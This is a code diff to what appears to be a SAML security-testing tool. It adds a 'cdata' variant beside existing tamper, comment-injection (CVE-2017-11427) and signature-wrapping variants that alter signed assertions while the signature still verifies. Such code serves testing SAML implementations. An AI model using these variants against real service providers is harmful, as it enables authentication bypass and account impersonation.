@@ -171,6 +171,7 @@ def build(args):
 
 ASSERTION = re.compile(r"<(?P<p>[\w.-]+:)?Assertion\b.*?</(?P=p)?Assertion>", re.S)
 NAME_ID = re.compile(r"(<(?:[\w.-]+:)?NameID\b[^>]*>)([^<]*)(<)")
+ATTRIBUTE_VALUE = re.compile(r"(<(?:[\w.-]+:)?AttributeValue\b[^>]*>)([^<]*)(<)")
 SIGNATURE = re.compile(r"<(?P<p>[\w.-]+:)?Signature\b.*?</(?P=p)?Signature>", re.S)
 
 
@@ -187,6 +188,18 @@ def attack(xml, args):
     if args.variant == "tamper":
         # Changes the signed NameID: the digest no longer matches.
         return NAME_ID.sub(lambda m: m.group(1) + args.forged_name_id + m.group(3), xml, count=1)
+    if args.variant == "cdata":
+        # Writes the NameID's and each AttributeValue's text from character
+        # len(--forged-name-id) on as a CDATA section: c14n writes CDATA as plain text, so
+        # the signature still verifies and the value is unchanged.
+        k = len(args.forged_name_id)
+
+        def wrap(m):
+            head, tail = m.group(2)[:k], m.group(2)[k:]
+            cdata = f"<![CDATA[{tail}]]>" if tail else ""
+            return m.group(1) + head + cdata + m.group(3)
+
+        return ATTRIBUTE_VALUE.sub(wrap, NAME_ID.sub(wrap, xml, count=1))
     if args.variant == "comment":
         # Splits the signed NameID with a comment after len(--forged-name-id) characters:
         # exclusive c14n drops comments, so the signature still verifies (CVE-2017-11427).
@@ -246,10 +259,22 @@ def parser():
     r.add_argument("--alg", choices=sorted(SIG), default="sha256")
     r.add_argument(
         "--variant",
-        choices=["none", "tamper", "comment", "xsw-before", "xsw-after", "xsw-extensions"],
+        choices=[
+            "none",
+            "tamper",
+            "comment",
+            "cdata",
+            "xsw-before",
+            "xsw-after",
+            "xsw-extensions",
+        ],
         default="none",
     )
-    r.add_argument("--forged-name-id", default="mallory@example.com")
+    r.add_argument(
+        "--forged-name-id",
+        default="mallory@example.com",
+        help="what tamper and XSW put in; where comment and cdata cut (its length)",
+    )
     sub.add_parser("serve")
     return parser
 
